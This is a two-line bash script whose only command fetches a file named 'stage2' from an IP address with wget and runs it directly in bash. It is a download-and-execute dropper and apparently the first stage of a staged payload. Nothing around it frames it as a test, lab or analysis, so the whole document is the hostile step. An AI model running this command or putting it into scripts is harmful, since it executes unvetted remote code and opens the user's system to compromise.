#!/bin/bash
bash -c "$(wget -qO- http://198.51.100.20/stage2)"
